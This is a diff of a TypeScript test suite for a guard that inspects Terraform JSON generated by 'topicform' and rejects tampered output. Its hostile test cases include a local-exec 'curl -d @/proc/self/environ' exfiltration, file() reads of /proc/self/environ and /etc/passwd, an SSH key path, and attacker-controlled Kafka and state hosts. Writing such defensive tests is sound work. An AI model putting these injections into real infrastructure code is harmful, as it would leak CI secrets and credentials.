@@ -36,12 +36,59 @@ function synthInto(name: string, environments: readonly EnvironmentInput[]): str
 
 /** Environments that together use every backend, mechanism and secrets mode topicform writes. */
 const WIDE: EnvironmentInput[] = [
-  { name: 'dev', production: false, replicationFactor: 1, minInsyncReplicas: 1, auth: { mechanism: 'none', tls: false }, backend: { type: 'local', path: '../state/{stack}.tfstate' } },
-  { name: 'qa', production: false, replicationFactor: 3, minInsyncReplicas: 2, auth: { mechanism: 'scram-sha256', secrets: 'variables' }, backend: { type: 's3', bucket: 'b', region: 'eu-west-1', dynamodbTable: 'locks' } },
-  { name: 'oauth', production: false, replicationFactor: 3, minInsyncReplicas: 2, auth: { mechanism: 'oauthbearer', secrets: 'variables' }, backend: { type: 'gcs', bucket: 'b' } },
-  { name: 'tls', production: false, replicationFactor: 3, minInsyncReplicas: 2, auth: { mechanism: 'mtls', secrets: 'variables' }, backend: { type: 'azurerm', resourceGroupName: 'rg', storageAccountName: 'sa', containerName: 'c' } },
-  { name: 'web', production: false, replicationFactor: 3, minInsyncReplicas: 2, backend: { type: 'http', address: 'https://state.example.com/{stack}', lockAddress: 'https://state.example.com/{stack}/lock', unlockAddress: 'https://state.example.com/{stack}/lock' } },
-  { name: 'prod', production: true, replicationFactor: 3, minInsyncReplicas: 2, layout: 'domain', moves: [{ domains: ['orders'], from: 'prod' }], backend: { type: 'remote', hostname: 'tfe.example.com', organization: 'acme', workspace: 'kafka-{stack}' } },
+  {
+    name: 'dev',
+    production: false,
+    replicationFactor: 1,
+    minInsyncReplicas: 1,
+    auth: { mechanism: 'none', tls: false },
+    backend: { type: 'local', path: '../state/{stack}.tfstate' },
+  },
+  {
+    name: 'qa',
+    production: false,
+    replicationFactor: 3,
+    minInsyncReplicas: 2,
+    auth: { mechanism: 'scram-sha256', secrets: 'variables' },
+    backend: { type: 's3', bucket: 'b', region: 'eu-west-1', dynamodbTable: 'locks' },
+  },
+  {
+    name: 'oauth',
+    production: false,
+    replicationFactor: 3,
+    minInsyncReplicas: 2,
+    auth: { mechanism: 'oauthbearer', secrets: 'variables' },
+    backend: { type: 'gcs', bucket: 'b' },
+  },
+  {
+    name: 'tls',
+    production: false,
+    replicationFactor: 3,
+    minInsyncReplicas: 2,
+    auth: { mechanism: 'mtls', secrets: 'variables' },
+    backend: { type: 'azurerm', resourceGroupName: 'rg', storageAccountName: 'sa', containerName: 'c' },
+  },
+  {
+    name: 'web',
+    production: false,
+    replicationFactor: 3,
+    minInsyncReplicas: 2,
+    backend: {
+      type: 'http',
+      address: 'https://state.example.com/{stack}',
+      lockAddress: 'https://state.example.com/{stack}/lock',
+      unlockAddress: 'https://state.example.com/{stack}/lock',
+    },
+  },
+  {
+    name: 'prod',
+    production: true,
+    replicationFactor: 3,
+    minInsyncReplicas: 2,
+    layout: 'domain',
+    moves: [{ domains: ['orders'], from: 'prod' }],
+    backend: { type: 'remote', hostname: 'tfe.example.com', organization: 'acme', workspace: 'kafka-{stack}' },
+  },
 ];
 
 let example: string;
@@ -51,7 +98,8 @@ beforeAll(() => {
   wide = synthInto('wide', WIDE);
 }, 120_000);
 
-const stacksOf = (out: string): string[] => JSON.parse(JSON.stringify(Object.keys(JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')).stacks as object))) as string[];
+const stacksOf = (out: string): string[] =>
+  JSON.parse(JSON.stringify(Object.keys(JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')).stacks as object))) as string[];
 const read = (out: string, stack: string, file = 'cdk.tf.json'): string => readFileSync(join(out, 'stacks', stack, file), 'utf8');
 
 function stackInput(out: string, stack: string, change: (json: Record<string, unknown>) => void = () => {}, extra: GuardStack['entries'] = []): GuardStack {
@@ -73,7 +121,10 @@ describe('accepts what topicform writes', () => {
     const stacks = stacksOf(example).map((s) => stackInput(example, s));
     expect(stacks.length).toBeGreaterThanOrEqual(4);
     expect(guard({ stacks }).violations).toEqual([]);
-    const base = { label: 'base', stacks: stacks.map((s) => ({ stack: s.stack, terraform: JSON.parse(s.terraform ?? '') as unknown, environment: null, production: null })) };
+    const base = {
+      label: 'base',
+      stacks: stacks.map((s) => ({ stack: s.stack, terraform: JSON.parse(s.terraform ?? '') as unknown, environment: null, production: null })),
+    };
     const result = guard({ stacks, base, options: { untrusted: true } });
     expect(result.violations).toEqual([]);
     expect(result.stacks.every((s) => !s.changed && !s.new)).toBe(true);
@@ -82,13 +133,31 @@ describe('accepts what topicform writes', () => {
   it('every stack of an app using every backend, auth mechanism, secrets mode, a move and import blocks', () => {
     const stacks = stacksOf(wide).map((s) => stackInput(wide, s));
     const all = stacks.map((s) => s.terraform ?? '').join('\n');
-    for (const needle of ['"s3"', '"gcs"', '"azurerm"', '"http"', '"remote"', '"ephemeral"', '"removed"', '"import"', '"oauthbearer"', 'client_key', 'use_lockfile']) expect(all).toContain(needle);
+    for (const needle of [
+      '"s3"',
+      '"gcs"',
+      '"azurerm"',
+      '"http"',
+      '"remote"',
+      '"ephemeral"',
+      '"removed"',
+      '"import"',
+      '"oauthbearer"',
+      'client_key',
+      'use_lockfile',
+    ]) {
+      expect(all).toContain(needle);
+    }
     expect(guard({ stacks }).violations).toEqual([]);
   });
 
   it('runs end to end on an output directory and prints JSON for a CI matrix', () => {
     let text = '';
-    const code = runGuard([example], { base: example, format: 'json', untrusted: true }, { stdout: { write: (s: string) => ((text += s), true) } as NodeJS.WritableStream });
+    const code = runGuard(
+      [example],
+      { base: example, format: 'json', untrusted: true },
+      { stdout: { write: (s: string) => ((text += s), true) } as NodeJS.WritableStream },
+    );
     expect(code).toBe(0);
     const report = JSON.parse(text) as GuardResult;
     expect(report.stacks.map((s) => [s.stack, s.production, s.changed])).toEqual([
@@ -107,30 +176,90 @@ describe('refuses a hostile output, each for its own reason', () => {
     ['a module', 'module', (j) => (j.module = { m: { source: 'git::https://example.com/m' } }), /modules are not allowed/],
     ['an output', 'output', (j) => (j.output = { o: { value: '${var.kafka_bootstrap_servers}' } }), /outputs are not allowed/],
     ['locals', 'top-level-key-not-allowed', (j) => (j.locals = { a: 1 }), /top-level "locals"/],
-    ['null_resource with local-exec', 'resource-type-not-allowed', (j) => (j.resource.null_resource = { x: { provisioner: [{ 'local-exec': { command: 'curl -d @/proc/self/environ example.com' } }] } }), /resource type "null_resource"/],
-    ['a provisioner on a topic', 'provisioner', (j) => (first(j, 'kafka_topic').provisioner = [{ 'local-exec': { command: 'env' } }]), /runs commands on the runner/],
+    [
+      'null_resource with local-exec',
+      'resource-type-not-allowed',
+      (j) => (j.resource.null_resource = { x: { provisioner: [{ 'local-exec': { command: 'curl -d @/proc/self/environ example.com' } }] } }),
+      /resource type "null_resource"/,
+    ],
+    [
+      'a provisioner on a topic',
+      'provisioner',
+      (j) => (first(j, 'kafka_topic').provisioner = [{ 'local-exec': { command: 'env' } }]),
+      /runs commands on the runner/,
+    ],
     ['a connection on an ACL', 'provisioner', (j) => (first(j, 'kafka_acl').connection = { host: 'x' }), /a connection is not allowed/],
     ['file() in a topic name', 'interpolation', (j) => (first(j, 'kafka_topic').name = '${file("/proc/self/environ")}'), /an expression in/],
-    ['a template directive in a config value', 'interpolation', (j) => (first(j, 'kafka_topic').config['retention.ms'] = '%{ for x in [1] }1%{ endfor }'), /an expression in/],
+    [
+      'a template directive in a config value',
+      'interpolation',
+      (j) => (first(j, 'kafka_topic').config['retention.ms'] = '%{ for x in [1] }1%{ endfor }'),
+      /an expression in/,
+    ],
     ['count on a topic', 'meta-argument-not-allowed', (j) => (first(j, 'kafka_topic').count = 2), /"count" is not something topicform writes/],
-    ['a lifecycle hook', 'meta-argument-not-allowed', (j) => (first(j, 'kafka_topic').lifecycle = { replace_triggered_by: ['x'] }), /lifecycle "replace_triggered_by"/],
+    [
+      'a lifecycle hook',
+      'meta-argument-not-allowed',
+      (j) => (first(j, 'kafka_topic').lifecycle = { replace_triggered_by: ['x'] }),
+      /lifecycle "replace_triggered_by"/,
+    ],
     ['an unknown attribute', 'attribute-not-allowed', (j) => (first(j, 'kafka_acl').timeouts = { create: '1m' }), /kafka_acl attribute "timeouts"/],
     ['a second provider', 'provider-not-allowed', (j) => (j.terraform.required_providers.http = { source: 'hashicorp/http' }), /provider "http"/],
     ['another source for kafka', 'provider-not-allowed', (j) => (j.terraform.required_providers.kafka.source = 'evil/kafka'), /"evil\/kafka"/],
-    ['a literal bootstrap_servers', 'provider-connection-literal', (j) => (j.provider.kafka[0].bootstrap_servers = ['evil.example.com:9092']), /bootstrap_servers must be \$\{var\.kafka_bootstrap_servers\}/],
-    ['a literal SASL password', 'provider-connection-literal', (j) => (j.provider.kafka[0].sasl_password = 'hunter2'), /sasl_password must be \$\{var\.kafka_sasl_password\}/],
+    [
+      'a literal bootstrap_servers',
+      'provider-connection-literal',
+      (j) => (j.provider.kafka[0].bootstrap_servers = ['evil.example.com:9092']),
+      /bootstrap_servers must be \$\{var\.kafka_bootstrap_servers\}/,
+    ],
+    [
+      'a literal SASL password',
+      'provider-connection-literal',
+      (j) => (j.provider.kafka[0].sasl_password = 'hunter2'),
+      /sasl_password must be \$\{var\.kafka_sasl_password\}/,
+    ],
     ['sasl_mechanism plain', 'sasl-mechanism-not-allowed', (j) => (j.provider.kafka[0].sasl_mechanism = 'plain'), /PLAIN sends the password/],
-    ['a client key read from a file', 'provider-attribute-not-allowed', (j) => (j.provider.kafka[0].client_key_file = '/home/runner/.ssh/id_rsa'), /"client_key_file" is not something topicform writes/],
+    [
+      'a client key read from a file',
+      'provider-attribute-not-allowed',
+      (j) => (j.provider.kafka[0].client_key_file = '/home/runner/.ssh/id_rsa'),
+      /"client_key_file" is not something topicform writes/,
+    ],
     ['skip_tls_verify', 'provider-attribute-not-allowed', (j) => (j.provider.kafka[0].skip_tls_verify = true), /"skip_tls_verify"/],
     ['a provider alias', 'provider-attribute-not-allowed', (j) => (j.provider.kafka[0].alias = 'other'), /"alias"/],
-    ['a variable default', 'variable-setting-not-allowed', (j) => (j.variable.kafka_bootstrap_servers.default = ['evil:9092']), /a default .* would supply a value CI did not/],
+    [
+      'a variable default',
+      'variable-setting-not-allowed',
+      (j) => (j.variable.kafka_bootstrap_servers.default = ['evil:9092']),
+      /a default .* would supply a value CI did not/,
+    ],
     ['an unknown variable', 'variable-not-allowed', (j) => (j.variable.token = { type: 'string' }), /variable "token"/],
-    ['an http backend setting', 'backend-not-allowed', (j) => (j.terraform.backend = { http: { address: 'https://x', username: 'u' } }), /"username" is not a http backend setting/],
+    [
+      'an http backend setting',
+      'backend-not-allowed',
+      (j) => (j.terraform.backend = { http: { address: 'https://x', username: 'u' } }),
+      /"username" is not a http backend setting/,
+    ],
     ['a backend topicform never writes', 'backend-not-allowed', (j) => (j.terraform.backend = { consul: { address: 'x' } }), /backend "consul"/],
     ['terraform cloud', 'terraform-setting-not-allowed', (j) => (j.terraform.cloud = { organization: 'evil' }), /terraform\.cloud/],
-    ['a required_version topicform does not write', 'terraform-setting-not-allowed', (j) => (j.terraform.required_version = '${file("/etc/passwd")}'), /required_version .* is not a constraint topicform writes \(">= 1\.11"\)/],
-    ['an import of another resource type', 'block-not-allowed', (j) => (j.import = [{ to: 'null_resource.x', id: 'x' }]), /expected the address of a kafka_topic/],
-    ['a removed block with a provisioner', 'provisioner', (j) => (j.removed = [{ from: 'kafka_topic.x', lifecycle: { destroy: true }, provisioner: [{ 'local-exec': { command: 'env' } }] }]), /"provisioner" is not something topicform writes in a removed block/],
+    [
+      'a required_version topicform does not write',
+      'terraform-setting-not-allowed',
+      (j) => (j.terraform.required_version = '${file("/etc/passwd")}'),
+      /required_version .* is not a constraint topicform writes \(">= 1\.11"\)/,
+    ],
+    [
+      'an import of another resource type',
+      'block-not-allowed',
+      (j) => (j.import = [{ to: 'null_resource.x', id: 'x' }]),
+      /expected the address of a kafka_topic/,
+    ],
+    [
+      'a removed block with a provisioner',
+      'provisioner',
+      (j) => (j.removed = [{ from: 'kafka_topic.x', lifecycle: { destroy: true }, provisioner: [{ 'local-exec': { command: 'env' } }] }]),
+      /"provisioner" is not something topicform writes in a removed block/,
+    ],
   ];
 
   const first = (j: Json, type: string): Json => Object.values(j.resource[type] as Json)[0] as Json;
@@ -144,7 +273,21 @@ describe('refuses a hostile output, each for its own reason', () => {
   });
 
   it('covers every reason code with a case here or below', () => {
-    const covered = new Set<string>([...cases.map(([, code]) => code), 'unexpected-file', 'symlink', 'terraform-working-files', 'missing-file', 'invalid-json', 'duplicate-key', 'local-backend', 'backend-changed', 'provider-changed', 'variables-changed', 'required-providers-changed', 'new-environment']);
+    const covered = new Set<string>([
+      ...cases.map(([, code]) => code),
+      'unexpected-file',
+      'symlink',
+      'terraform-working-files',
+      'missing-file',
+      'invalid-json',
+      'duplicate-key',
+      'local-backend',
+      'backend-changed',
+      'provider-changed',
+      'variables-changed',
+      'required-providers-changed',
+      'new-environment',
+    ]);
     expect(Object.keys(GUARD_CODES).filter((c) => !covered.has(c))).toEqual([]);
   });
 
@@ -161,7 +304,10 @@ describe('refuses a hostile output, each for its own reason', () => {
   });
 
   it("accepts terraform's own files locally, refuses them in an output from another job", () => {
-    const entries = [{ name: '.terraform', kind: 'directory' as const }, { name: '.terraform.lock.hcl', kind: 'file' as const }];
+    const entries = [
+      { name: '.terraform', kind: 'directory' as const },
+      { name: '.terraform.lock.hcl', kind: 'file' as const },
+    ];
     expect(guard({ stacks: [stackInput(example, 'dev', () => {}, entries)] }).violations).toEqual([]);
     const untrusted = guard({ stacks: [stackInput(example, 'dev', () => {}, entries)], options: { untrusted: true } });
     expect(untrusted.violations.map((v) => [v.file, v.code])).toEqual([
@@ -179,7 +325,12 @@ describe('refuses a hostile output, each for its own reason', () => {
 
   it('refuses invalid JSON, comments and a missing file', () => {
     expect(codes(guard({ stacks: [{ ...stackInput(example, 'dev'), terraform: '{"resource": {} // x\n}' }] }))).toEqual(['invalid-json']);
-    const withoutTerraform: GuardStack = { stack: 'dev', directory: 'out/stacks/dev', entries: [{ name: 'topology.json', kind: 'file' }], topology: read(example, 'dev', 'topology.json') };
+    const withoutTerraform: GuardStack = {
+      stack: 'dev',
+      directory: 'out/stacks/dev',
+      entries: [{ name: 'topology.json', kind: 'file' }],
+      topology: read(example, 'dev', 'topology.json'),
+    };
     expect(codes(guard({ stacks: [withoutTerraform] }))).toEqual(['missing-file']);
   });
 
@@ -191,14 +342,49 @@ describe('refuses a hostile output, each for its own reason', () => {
 });
 
 describe('with --base: settings equal the base', () => {
-  const baseOf = (out: string) => ({ label: 'base', stacks: stacksOf(out).map((s) => ({ stack: s, terraform: JSON.parse(read(out, s)) as unknown, environment: (JSON.parse(read(out, s, 'topology.json')) as { environment: { name: string } }).environment.name, production: null })) });
+  const baseOf = (out: string) => ({
+    label: 'base',
+    stacks: stacksOf(out).map((s) => ({
+      stack: s,
+      terraform: JSON.parse(read(out, s)) as unknown,
+      environment: (JSON.parse(read(out, s, 'topology.json')) as { environment: { name: string } }).environment.name,
+      production: null,
+    })),
+  });
   type Json = Record<string, any>;
 
   it.each([
-    ['staging backend moved to http at an outside address', 'staging', (j: Json): void => void (j.terraform.backend = { http: { address: 'https://state.evil.example.com/x' } }), 'backend-changed', /backend setting http\.address differs from base: \(none\) → "https:\/\/state\.evil\.example\.com\/x"/],
-    ['prod auth none and TLS off', 'prod-orders', (j: Json): void => { delete j.provider.kafka[0].sasl_mechanism; j.provider.kafka[0].tls_enabled = false; }, 'provider-changed', /kafka\.tls_enabled differs from base: true → false/],
-    ['a credential variable added', 'prod-orders', (j: Json): void => void (j.variable.kafka_sasl_token_url = { type: 'string', nullable: false }), 'variables-changed', /kafka_sasl_token_url\.type differs/],
-    ['a provider version', 'dev', (j: Json): void => void (j.terraform.required_providers.kafka.version = '0.13.2'), 'required-providers-changed', /kafka\.version differs from base: "~> 0\.13\.1" → "0\.13\.2"/],
+    [
+      'staging backend moved to http at an outside address',
+      'staging',
+      (j: Json): void => void (j.terraform.backend = { http: { address: 'https://state.evil.example.com/x' } }),
+      'backend-changed',
+      /backend setting http\.address differs from base: \(none\) → "https:\/\/state\.evil\.example\.com\/x"/,
+    ],
+    [
+      'prod auth none and TLS off',
+      'prod-orders',
+      (j: Json): void => {
+        delete j.provider.kafka[0].sasl_mechanism;
+        j.provider.kafka[0].tls_enabled = false;
+      },
+      'provider-changed',
+      /kafka\.tls_enabled differs from base: true → false/,
+    ],
+    [
+      'a credential variable added',
+      'prod-orders',
+      (j: Json): void => void (j.variable.kafka_sasl_token_url = { type: 'string', nullable: false }),
+      'variables-changed',
+      /kafka_sasl_token_url\.type differs/,
+    ],
+    [
+      'a provider version',
+      'dev',
+      (j: Json): void => void (j.terraform.required_providers.kafka.version = '0.13.2'),
+      'required-providers-changed',
+      /kafka\.version differs from base: "~> 0\.13\.1" → "0\.13\.2"/,
+    ],
   ] as const)('%s', (_name, stack, change, code, message) => {
     const result = guard({ stacks: [stackInput(example, stack, change)], base: baseOf(example) });
     expect(codes(result)).toEqual([code]);
@@ -211,13 +397,32 @@ describe('with --base: settings equal the base', () => {
     type Stack = ReturnType<typeof stackInput>;
     const remote = (j: Json): void => void (j.terraform.backend = { s3: { bucket: 'b', key: 'k', region: 'r', encrypt: true, use_lockfile: true } });
     const more = (j: Json): void => void (Object.values(j.resource.kafka_topic as Json)[0].partitions = 96);
-    const base = { label: 'base', stacks: ['dev', 'staging'].map((s) => ({ stack: s, terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown, environment: null, production: null })) };
-    const dev = stackInput(example, 'dev', (j) => { remote(j); more(j); });
-    const staging = (extra: (j: Json) => void): Stack => stackInput(example, 'staging', (j) => { remote(j); more(j); extra(j); });
+    const base = {
+      label: 'base',
+      stacks: ['dev', 'staging'].map((s) => ({
+        stack: s,
+        terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown,
+        environment: null,
+        production: null,
+      })),
+    };
+    const dev = stackInput(example, 'dev', (j) => {
+      remote(j);
+      more(j);
+    });
+    const staging = (extra: (j: Json) => void): Stack =>
+      stackInput(example, 'staging', (j) => {
+        remote(j);
+        more(j);
+        extra(j);
+      });
 
     const settings = guard({ stacks: [dev, staging((j) => void (j.provider.kafka[0].tls_enabled = false))], base });
     expect(settings).toMatchObject({ ok: false, reviewable: true, plan: ['dev'] });
-    expect(settings.stacks.map((s) => [s.stack, s.ok])).toEqual([['dev', true], ['staging', false]]);
+    expect(settings.stacks.map((s) => [s.stack, s.ok])).toEqual([
+      ['dev', true],
+      ['staging', false],
+    ]);
 
     const hostile = guard({ stacks: [dev, staging((j) => void (j.data = { external: { x: { program: ['env'] } } }))], base });
     expect(hostile).toMatchObject({ ok: false, reviewable: false, plan: [] });
@@ -232,7 +437,10 @@ describe('with --base: settings equal the base', () => {
       }
       return join(out, dir);
     };
-    const baseDir = write('base', ['dev', 'staging'].map((s) => stackInput(example, s, remote)));
+    const baseDir = write(
+      'base',
+      ['dev', 'staging'].map((s) => stackInput(example, s, remote)),
+    );
     const quiet = { stdout: { write: () => true } as unknown as NodeJS.WritableStream, stderr: { write: () => true } as unknown as NodeJS.WritableStream };
     expect(runGuard([write('same', [dev, staging(() => {})])], { base: baseDir }, quiet)).toBe(0);
     expect(runGuard([write('settings', [dev, staging((j) => void (j.provider.kafka[0].tls_enabled = false))])], { base: baseDir }, quiet)).toBe(2);
@@ -262,8 +470,25 @@ describe('with --base: settings equal the base', () => {
     // Local backends: nothing to plan against real state.
     expect(result.plan).toEqual([]);
     const remote = (j: Json): void => void (j.terraform.backend = { s3: { bucket: 'b', key: 'k', region: 'r', encrypt: true, use_lockfile: true } });
-    const remoteBase = { label: 'base', stacks: ['dev', 'staging'].map((s) => ({ stack: s, terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown, environment: null, production: null })) };
-    const both = guard({ stacks: [stackInput(example, 'dev', (j: Json) => { remote(j); Object.values(j.resource.kafka_topic as Json)[0].partitions = 96; }), stackInput(example, 'staging', remote)], base: remoteBase });
+    const remoteBase = {
+      label: 'base',
+      stacks: ['dev', 'staging'].map((s) => ({
+        stack: s,
+        terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown,
+        environment: null,
+        production: null,
+      })),
+    };
+    const both = guard({
+      stacks: [
+        stackInput(example, 'dev', (j: Json) => {
+          remote(j);
+          Object.values(j.resource.kafka_topic as Json)[0].partitions = 96;
+        }),
+        stackInput(example, 'staging', remote),
+      ],
+      base: remoteBase,
+    });
     expect(both.plan).toEqual(['dev']);
   });
 });
